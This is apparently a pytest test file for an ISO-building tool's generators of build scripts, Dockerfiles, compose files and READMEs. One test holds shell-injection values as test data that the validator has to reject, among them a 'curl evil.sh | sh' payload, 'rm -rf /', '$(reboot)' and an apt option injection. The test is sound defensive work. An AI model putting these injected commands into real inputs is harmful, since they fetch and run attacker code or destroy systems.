"""Tests for builds/artifacts.py module."""

import re

import pytest
import yaml
from pydantic import ValidationError

from isoforge.builds.artifacts import (
    ARTIFACT_FILES,
    CHECKSUM_FILES,
    CHECKSUMS_FILE,
    KERNEL_BRANCH,
    compute_text_hash,
    content_type_for,
    generate_build_script,
    generate_compose,
    generate_dockerfile,
    generate_readme,
    image_name,
    kernel_config_summary,
    render_checksums,
)
from isoforge.builds.schema import Manifest
from isoforge.catalog import DEFAULT_CATALOG
from isoforge.catalog.resolver import resolve_packages
from isoforge.kernel.fragment import generate_fallback_config

JOB_ID = "0f8fad5b-d9cb-469f-a165-70867728950e"


def make_manifest(
    distro: str = "debian",
    mode: str = "server",
    overlays: tuple[str, ...] = ("docker", "tailscale"),
    custom_software: tuple[str, ...] = (),
    modules: tuple[str, ...] = ("i915", "nvme"),
    ai_mode: bool = False,
) -> Manifest:
    pkg_manager = DEFAULT_CATALOG.pkg_manager_for(distro)
    return Manifest(
        job_id=JOB_ID,
        distro=distro,
        mode=mode,
        base_image=DEFAULT_CATALOG.base_image_for(distro),
        pkg_manager=pkg_manager,
        packages=tuple(resolve_packages(DEFAULT_CATALOG, pkg_manager, list(overlays))),
        custom_software=custom_software,
        overlays=overlays,
        modules=modules,
        ai_mode=ai_mode,
        ai_model="fallback",
        kernel_config_lines=15,
        created="2026-01-01T00:00:00.000Z",
    )


@pytest.fixture
def kernel_config() -> str:
    return generate_fallback_config("server", ["i915", "nvme"])


class TestHelpers:
    """Test small artifact helpers."""

    def test_compute_text_hash(self) -> None:
        """Hash is the SHA-256 of the UTF-8 bytes."""
        assert (
            compute_text_hash("")
            == "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
        )

    def test_render_checksums(self) -> None:
        """Checksum lines follow sha256sum format in mapping order."""
        text = render_checksums({"b.txt": "22", "a.txt": "11"})
        assert text == "22  b.txt\n11  a.txt"

    @pytest.mark.parametrize(
        ("filename", "content_type"),
        [
            ("manifest.json", "application/json"),
            ("docker-compose.yml", "text/yaml"),
            ("README.md", "text/markdown"),
            ("build.sh", "text/plain"),
            ("Dockerfile", "text/plain"),
        ],
    )
    def test_content_type_for(self, filename: str, content_type: str) -> None:
        """Content type follows the file extension."""
        assert content_type_for(filename) == content_type

    def test_checksum_files_exclude_checksums(self) -> None:
        """Every artifact except the checksum file itself is covered."""
        assert CHECKSUMS_FILE not in CHECKSUM_FILES
        assert len(CHECKSUM_FILES) == len(ARTIFACT_FILES) - 1
        assert "test-results.json" in CHECKSUM_FILES

    def test_image_name(self) -> None:
        """Image name includes distro, mode and short job id."""
        assert image_name(make_manifest()) == "isoforge-debian-server-0f8fad5b"


class TestBuildScript:
    """Test build.sh generation."""

    def test_structure(self, kernel_config: str) -> None:
        """Script has shebang, strict mode, kernel build and ISO creation."""
        script = generate_build_script(make_manifest(), kernel_config, DEFAULT_CATALOG)
        lines = script.split("\n")

        assert lines[0] == "#!/bin/bash"
        assert lines[1] == "set -euo pipefail"
        assert f"--branch {KERNEL_BRANCH}" in script
        assert "bzImage" in script
        assert "grub-mkrescue" in script
        assert "sha256sum" in script
        assert kernel_config_summary(kernel_config) in script

    def test_base_image_written_once(self, kernel_config: str) -> None:
        """The base image literal appears exactly once."""
        script = generate_build_script(make_manifest(), kernel_config, DEFAULT_CATALOG)
        assert script.count("debian:12-slim") == 1
        assert 'docker pull "$BASE_IMAGE"' in script

    def test_apt_packages_and_script_overlays(self, kernel_config: str) -> None:
        """Native packages install via apt; script overlays via their installer."""
        script = generate_build_script(make_manifest(), kernel_config, DEFAULT_CATALOG)

        assert "apt-get install -y --no-install-recommends docker.io containerd" in script
        assert "https://tailscale.com/install.sh" in script
        assert 'echo "WARN: Tailscale install failed"' in script

    def test_dnf_packages(self, kernel_config: str) -> None:
        """dnf distros install overlay packages with dnf."""
        manifest = make_manifest(distro="rocky", overlays=("docker",))
        script = generate_build_script(manifest, kernel_config, DEFAULT_CATALOG)
        assert (
            "docker exec $CONTAINER dnf install -y docker-ce docker-ce-cli "
            "containerd.io docker-compose-plugin" in script
        )

    def test_nix_packages_one_per_line(self, kernel_config: str) -> None:
        """nix installs each package separately."""
        manifest = make_manifest(distro="nixos", overlays=("libvirt",))
        script = generate_build_script(manifest, kernel_config, DEFAULT_CATALOG)
        assert "docker exec $CONTAINER nix-env -iA nixpkgs.libvirt" in script
        assert "docker exec $CONTAINER nix-env -iA nixpkgs.virt-manager" in script

    def test_custom_software_tolerates_failure(self, kernel_config: str) -> None:
        """Custom packages do not abort the build when unavailable."""
        manifest = make_manifest(custom_software=("htop",))
        script = generate_build_script(manifest, kernel_config, DEFAULT_CATALOG)
        assert '|| echo "WARN: htop not available in repos"' in script

    def test_ai_mode_enables_modules(self, kernel_config: str) -> None:
        """AI mode force-enables modules and trims desktop subsystems on servers."""
        manifest = make_manifest(ai_mode=True)
        script = generate_build_script(manifest, kernel_config, DEFAULT_CATALOG)

        assert "scripts/config --enable I915" in script
        assert "scripts/config --enable NVME" in script
        assert "--disable DRM" in script

    def test_no_module_step_without_ai_mode(self, kernel_config: str) -> None:
        """Modules are not force-enabled when AI mode is off."""
        script = generate_build_script(make_manifest(), kernel_config, DEFAULT_CATALOG)
        assert "scripts/config --enable" not in script

    def test_grub_heredoc_is_quoted(self, kernel_config: str) -> None:
        """The GRUB menu is fed through a quoted heredoc."""
        script = generate_build_script(make_manifest(), kernel_config, DEFAULT_CATALOG)
        assert "<< 'GRUBEOF'" in script
        assert "\nGRUBEOF\n" in script
        assert 'menuentry "isoforge custom Linux (debian server)" {' in script

    def test_deterministic(self, kernel_config: str) -> None:
        """Same manifest gives byte-identical output."""
        manifest = make_manifest()
        first = generate_build_script(manifest, kernel_config, DEFAULT_CATALOG)
        assert first == generate_build_script(manifest, kernel_config, DEFAULT_CATALOG)


class TestDockerfile:
    """Test Dockerfile generation."""

    @pytest.mark.parametrize("distro", ["debian", "rocky", "nixos", "proxmox"])
    def test_build_stage_is_fixed(self, distro: str, kernel_config: str) -> None:
        """The build stage uses the build image regardless of target distro."""
        dockerfile = generate_dockerfile(make_manifest(distro=distro), kernel_config)
        assert dockerfile.split("\n")[0] == "FROM debian:12 AS builder"

    def test_custom_build_image(self, kernel_config: str) -> None:
        """A different build image can be supplied."""
        dockerfile = generate_dockerfile(make_manifest(), kernel_config, "ubuntu:24.04")
        assert dockerfile.startswith("FROM ubuntu:24.04 AS builder")

    def test_content(self, kernel_config: str) -> None:
        """Dockerfile merges the fragment and installs packages best effort."""
        manifest = make_manifest(custom_software=("htop",))
        dockerfile = generate_dockerfile(manifest, kernel_config)

        assert "COPY kernel.config /tmp/isoforge.config" in dockerfile
        assert "merge_config.sh .config /tmp/isoforge.config" in dockerfile
        assert "docker.io containerd htop || true" in dockerfile
        assert f'LABEL io.isoforge.job-id="{JOB_ID}"' in dockerfile
        assert dockerfile.rstrip().endswith('CMD ["cat", "/output.iso"]')

    def test_no_package_step_without_packages(self, kernel_config: str) -> None:
        """No package install step when there is nothing to install."""
        manifest = make_manifest(overlays=())
        dockerfile = generate_dockerfile(manifest, kernel_config)
        assert "|| true" not in dockerfile


class TestComposeAndReadme:
    """Test docker-compose.yml and README.md generation."""

    def test_compose_is_valid_yaml(self) -> None:
        """Compose file parses and builds from the Dockerfile."""
        data = yaml.safe_load(generate_compose(make_manifest()))

        assert "version" not in data
        builder = data["services"]["builder"]
        assert builder["build"] == {"context": ".", "dockerfile": "Dockerfile"}
        assert builder["volumes"] == ["./output:/output"]
        assert "isoforge-debian-server-0f8fad5b.iso" in builder["command"]

    def test_readme(self) -> None:
        """README lists the configuration and build options."""
        readme = generate_readme(make_manifest(custom_software=()))

        assert readme.startswith(f"# isoforge build {JOB_ID}")
        assert "- **Packages**: docker.io, containerd" in readme
        assert "- **Custom Software**: none" in readme
        assert "docker compose up --build" in readme
        assert "sha256sum -c checksums.sha256" in readme
        assert re.search(r"docker build -t isoforge-debian-server \.", readme)


class TestShellSafeNames:
    """Names interpolated into generated scripts are restricted."""

    @pytest.mark.parametrize(
        ("field", "value"),
        [
            ("mode", 'server"; curl evil.sh | sh; echo "'),
            ("distro", "debian$(reboot)"),
            ("custom_software", ('htop"; rm -rf / ; echo "',)),
            ("modules", ("i915 `id`",)),
            ("overlays", ("docker\nreboot",)),
            ("custom_software", ("-oAPT::Update::Pre-Invoke::=id",)),
        ],
    )
    def test_manifest_rejects_metacharacters(self, field: str, value) -> None:
        """Quotes, substitutions, separators and leading dashes are refused."""
        with pytest.raises(ValidationError):
            make_manifest(**{field: value})

    def test_package_names_are_accepted(self, kernel_config: str) -> None:
        """Real package names with dots, plus signs and dashes pass through."""
        manifest = make_manifest(custom_software=("g++", "python3.11", "libstdc++6"))
        script = generate_build_script(manifest, kernel_config, DEFAULT_CATALOG)

        for name in ("g++", "python3.11", "libstdc++6"):
            assert f'|| echo "WARN: {name} not available in repos"' in script
